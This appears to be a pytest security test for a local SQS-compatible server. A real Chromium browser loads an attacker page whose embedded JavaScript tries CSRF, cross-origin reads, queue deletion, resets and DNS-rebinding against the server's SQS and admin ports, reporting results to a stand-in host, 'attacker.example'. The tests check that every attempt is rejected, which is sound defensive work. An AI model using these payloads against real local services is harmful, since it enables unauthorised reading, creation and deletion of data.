"""A real browser opens the page of an attacker while a server without authentication runs on the
same machine. The page tries what ``test_browsers.py`` lists, against both ports and by every name
that reaches them, and can neither create, read nor delete anything."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from tests.attacks.chromium import Attacker, Chromium, Exchange, Relay
from tests.attacks.kit import send
from tests.harness.client import RawClient
from tests.harness.patience import eventually
from tests.harness.server import Server

ATTACKER = "attacker.example"
SECRET = "the body of a message"
# By which names the page reaches the server. Chromium sends Sec-Fetch-Site to the first two only.
NAMES = ("127.0.0.1", "localhost", "localhost.localstack.cloud", "penstock", ATTACKER, "0.0.0.0")

COMMON = """
const report = (name, what) =>
  fetch(`http://ATTACKER:CONTROL/report/${name}`, {method: "POST", body: JSON.stringify(what)});
const attempt = async (work) => {
  try { return await work() } catch (error) { return `error: ${error}` }
};
"""
PAGE = """<!doctype html><title>attacker</title>
<iframe src="http://ATTACKER:SQS/"></iframe><iframe src="http://ATTACKER:ADMIN/"></iframe>
<script>COMMON
const loaded = (element, start) => new Promise((done) => {
  element.onload = element.onerror = () => done("loaded");
  setTimeout(done, 3000, "late");
  start(element);
});
const image = (url) => loaded(new Image(), (it) => { it.src = url });
const frame = (start) => {
  const it = document.createElement("iframe"); it.name = `f${Math.random()}`;
  return loaded(it, () => { start(it); if (!it.parentNode) document.body.append(it) });
};
const form = (url, enctype, fields) => frame((it) => {
  document.body.append(it);
  const made = document.createElement("form");
  Object.assign(made, {action: url, method: "POST", enctype, target: it.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, {type: "hidden", name, value}); made.append(input);
  }
  document.body.append(made); made.submit();
});
const FORM = "application/x-www-form-urlencoded", TEXT = "text/plain";
const MULTI = "multipart/form-data", JSON_ = "application/json";
const post = (url, body, type, mode = "no-cors") => fetch(url, {
  method: "POST", mode, body: new Blob([body], {type}),
}).then(async (reply) => `${reply.type} ${reply.status} ${await reply.text()}`);
const get = (url, mode) => fetch(url, {mode}).then(
  async (reply) => `${reply.type} ${reply.status} ${await reply.text()}`);

const onSqs = (base, at) => {
  const create = (kind) => `Action=CreateQueue&QueueName=by-${kind}-${at}`;
  const fields = (kind) => ({Action: "CreateQueue", QueueName: `by-${kind}-${at}`});
  const victim = encodeURIComponent("/000000000000/victim");
  return {
    image: () => image(`${base}/?${create("image")}`),
    frame: () => frame((it) => { it.src = `${base}/?${create("frame")}` }),
    form: () => form(`${base}/`, FORM, fields("form")),
    multi: () => form(`${base}/`, MULTI, fields("multi")),
    plain: () => form(`${base}/`, TEXT, fields("plain")),
    posted: () => post(`${base}/`, create("posted"), FORM),
    text: () => post(`${base}/`, create("text"), TEXT),
    untyped: () => post(`${base}/`, create("untyped"), ""),
    beacon: () => String(navigator.sendBeacon(`${base}/`, create("beacon"))),
    got: () => get(`${base}/?${create("got")}`, "no-cors"),
    read: () => get(`${base}/?Action=ReceiveMessage&QueueUrl=${victim}&by-read-${at}`, "cors"),
    erased: () => post(`${base}/`, `Action=DeleteQueue&QueueUrl=${victim}&by-erased-${at}`, FORM),
    json: () => fetch(`${base}/by-json-${at}`, {method: "POST", body: "{}", headers:
      {"x-amz-target": "AmazonSQS.ListQueues", "content-type": "application/x-amz-json-1.0"}}),
    reset: () => fetch(`${base}/_penstock/reset`, {method: "POST", mode: "no-cors"}),
    moto: () => post(`${base}/moto-api/reset`, "x", TEXT),
    resetForm: () => form(`${base}/_penstock/reset`, FORM, {}),
  };
};
const onAdmin = (base, at) => {
  const user = (kind) => JSON.stringify({name: `by-${kind}-${at}`});
  return {
    image: () => image(`${base}/api/v1/queues/victim/messages?count=1`),
    frame: () => frame((it) => { it.src = `${base}/api/v1/queues?prefix=victim` }),
    form: () => form(`${base}/api/v1/users`, TEXT, {[`{"name":"by-form-${at}","x":"`]: '"}'}),
    text: () => post(`${base}/api/v1/users`, user("text"), TEXT),
    untyped: () => post(`${base}/api/v1/users`, user("untyped"), ""),
    beacon: () => String(navigator.sendBeacon(`${base}/api/v1/users`, user("beacon"))),
    read: () => get(`${base}/api/v1/queues/victim/messages?count=2`, "cors"),
    json: () => post(`${base}/api/v1/users?by-json-${at}`, user("json"), JSON_, "cors"),
    erased: () => fetch(`${base}/api/v1/users/victim?by-erased-${at}`, {method: "DELETE"}),
  };
};
(async () => {
  await fetch("http://ATTACKER:CONTROL/go");
  const results = {};
  for (const [at, name] of NAMES.entries()) {
    for (const [port, attacks] of [
      ["sqs", onSqs(`http://${name}:SQS`, at)], ["admin", onAdmin(`http://${name}:ADMIN`, at)],
    ]) {
      await Promise.all(Object.entries(attacks).map(async ([kind, work]) => {
        results[`${port} ${kind} ${name}`] = String(await attempt(work));
      }));
    }
  }
  await report("page", results);
  await fetch("http://ATTACKER:CONTROL/leave");
  location.href = "http://localhost.localstack.cloud:SQS/?Action=CreateQueue&QueueName=by-link";
})();
</script>"""
# Loaded from the attacker under the name and port by which the server is reached afterwards.
REBOUND = """<!doctype html><script>COMMON
const ask = async (method, path, body, headers = {}) => {
  const reply = await fetch(path, {method, body, headers});
  return [reply.status, await reply.text()];
};
const sqs = (operation, fields) => ask("POST", "/", JSON.stringify(fields), {
  "x-amz-target": `AmazonSQS.${operation}`, "content-type": "application/x-amz-json-1.0"});
const victim = {QueueUrl: "/000000000000/victim"}, json = {"content-type": "application/json"};
const ATTACKS = {
  sqs: [
    () => ask("GET", "/?Action=ListQueues"), () => sqs("ListQueues", {}),
    () => sqs("ReceiveMessage", victim), () => sqs("CreateQueue", {QueueName: "by-rebinding"}),
    () => sqs("DeleteQueue", victim), () => ask("POST", "/_penstock/reset"),
    () => ask("POST", "/moto-api/reset"), () => ask("GET", "/_penstock/info"),
  ],
  admin: [
    () => ask("GET", "/api/v1/queues"), () => ask("GET", "/api/v1/queues/victim/messages"),
    () => ask("POST", "/api/v1/users", '{"name":"by-rebinding"}', json),
    () => ask("GET", "/metrics"), () => ask("DELETE", "/api/v1/users/victim"),
  ],
};
(async () => {
  await report("loaded-PORT", location.href);
  await fetch("http://ATTACKER:CONTROL/go");
  const results = [];
  for (const attack of ATTACKS["PORT"]) results.push(await attempt(attack));
  await report("rebound-PORT", results);
})();
</script>"""
# How each attack of the page is found again, in path and body: by its label, by-KIND-NUMBER, unless
# the request has no place for a label.
KINDS: dict[str, dict[str, str]] = {
    "sqs": {
        **dict.fromkeys(("image", "frame", "form", "multi", "plain", "posted", "text"), ""),
        **dict.fromkeys(("untyped", "beacon", "got", "read", "erased", "json"), ""),
        "reset": "/_penstock/reset",
        "moto": "/moto-api/reset",
        "resetForm": "/_penstock/reset",
    },
    "admin": {
        **dict.fromkeys(("form", "text", "untyped", "beacon", "json", "erased"), ""),
        "image": "/messages?count=1",
        "frame": "/queues?prefix=victim",
        "read": "/messages?count=2",
    },
}


@dataclass
class Attack:
    """What was seen of one visit to the page."""

    server: Server
    exchanges: dict[str, list[Exchange]]  # by port
    page: dict[str, str]  # what the page saw, by "PORT KIND NAME"
    rebound: dict[str, list[Any]] = field(default_factory=dict)  # status and text, by port


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    folder = tmp_path_factory.mktemp("chromium")
    attacker = Attacker(b"")
    ports = {port: Relay(b"") for port in ("sqs", "admin")}

    def filled(text: str, port: str = "") -> bytes:
        for mark, value in (
            ("COMMON", COMMON),
            ("CONTROL", str(attacker.port)),
            ("ATTACKER", ATTACKER),
            ("SQS", str(ports["sqs"].port)),
            ("ADMIN", str(ports["admin"].port)),
            ("NAMES", json.dumps(NAMES)),
            ("PORT", port),
        ):
            text = text.replace(mark, value)
        return text.encode()

    attacker.page = filled(PAGE)
    for name, relay in ports.items():
        relay.page = filled(REBOUND, name)
    url = f"http://{ATTACKER}:{attacker.port}/"
    names = tuple(name for name in NAMES if not name[0].isdigit() and name != "localhost")
    with Server(folder / "data", fsync="never") as server:
        fill(server)
        with Chromium(folder / "profile", url, names):
            for name in ports:
                attacker.report(f"loaded-{name}")
            ports["sqs"].target = urlsplit(server.url).netloc
            ports["admin"].target = urlsplit(server.admin_url).netloc
            attacker.go.set()
            rebound = {name: attacker.report(f"rebound-{name}") for name in ports}
            page = attacker.report("page")
            # A busy browser sends some of them after the page has reported, and none after it left.
            relays = ports.items()
            eventually(
                lambda: not missing({name: list(relay.exchanges) for name, relay in relays}),
                seconds=60,
                what="all requests of the page",
            )
            attacker.leave.set()
            eventually(
                lambda: any("by-link" in one.path for one in ports["sqs"].exchanges),
                seconds=30,
                what="the browser follows the link",
            )
        exchanges = {name: list(relay.exchanges) for name, relay in ports.items()}
        yield Attack(server, exchanges, page, rebound)
    for one in (attacker, *ports.values()):
        one.close()


def fill(server: Server) -> None:
    client = RawClient(server.port)
    url = client.call("CreateQueue", {"QueueName": "victim"})["QueueUrl"]
    client.call("SendMessage", {"QueueUrl": url, "MessageBody": SECRET})
    client.close()
    body, headers = b'{"name":"victim"}', {"content-type": "application/json"}
    host = urlsplit(server.admin_url).netloc
    assert send(host, "POST", "/api/v1/users", body, headers)[0] == 201


def test_the_requests_of_the_page_reached_both_ports_by_every_name(attack: Attack) -> None:
    assert not missing(attack.exchanges)


def missing(exchanges: Mapping[str, Sequence[Exchange]]) -> list[tuple[str, str, str]]:
    """The requests of the page that did not arrive: port, name and kind."""
    found = []
    for port, kinds in KINDS.items():
        for at, name in enumerate(NAMES):
            arrived = [
                f"{one.path} {one.body.decode('latin-1')}"
                for one in exchanges[port]
                if one.host == name
            ]
            found += [
                (port, name, kind)
                for kind, mark in kinds.items()
                if not any((mark or f"by-{kind}-{at}") in text for text in arrived)
            ]
    return found


def test_every_request_of_the_page_was_rejected(attack: Attack) -> None:
    """Except a GET that changes nothing and that no header tells from the one of an operator who
    opens the same address: its reply is closed to every page."""
    for port, exchanges in attack.exchanges.items():
        for one in exchanges:
            is_unnamed = "origin" not in one.headers and "sec-fetch-site" not in one.headers
            if port == "admin" and one.method == "GET" and is_unnamed and one.host != ATTACKER:
                assert one.reply_headers["cross-origin-resource-policy"] == "same-origin"
                assert one.reply_headers["x-frame-options"] == "DENY"
                continue
            # The browser itself may look for an icon of a host that it was shown.
            assert one.status == (404 if is_unnamed and one.path == "/favicon.ico" else 403), one
            assert SECRET.encode() not in one.reply


def test_a_page_whose_name_was_rebound_got_nothing_but_rejections(attack: Attack) -> None:
    assert [len(replies) for replies in attack.rebound.values()] == [8, 5]
    for port, replies in attack.rebound.items():
        for status, text in replies:
            assert status == 403, (port, text)
            assert SECRET not in text


def test_the_page_read_nothing(attack: Attack) -> None:
    assert len(attack.page) == len(NAMES) * sum(map(len, KINDS.values()))
    for what, seen in attack.page.items():
        assert SECRET not in seen, what
        if " read " in what:
            assert seen.startswith("error: TypeError"), (what, seen)


def test_nothing_was_created_received_or_deleted(attack: Attack) -> None:
    server = attack.server
    client = RawClient(server.port)
    queues = client.call("ListQueues", {})["QueueUrls"]
    assert [url.rpartition("/")[2] for url in queues] == ["victim"]
    asked = {"QueueUrl": queues[0], "AttributeNames": ["All"]}
    (message,) = client.call("ReceiveMessage", asked)["Messages"]
    assert message["Body"] == SECRET
    assert message["Attributes"]["ApproximateReceiveCount"] == "1"
    client.close()
    _, answer, _ = send(urlsplit(server.admin_url).netloc, "GET", "/api/v1/users", None, {})
    assert b"by-" not in answer
    assert b'"victim"' in answer


def test_the_server_counted_the_rejections(attack: Attack) -> None:
    counted = sum(
        value
        for name, value in attack.server.metrics().items()
        if name.startswith("penstock_requests_total") and 'code="AccessDenied"' in name
    )
    assert counted == sum(one.status == 403 for one in attack.exchanges["sqs"]) > 0
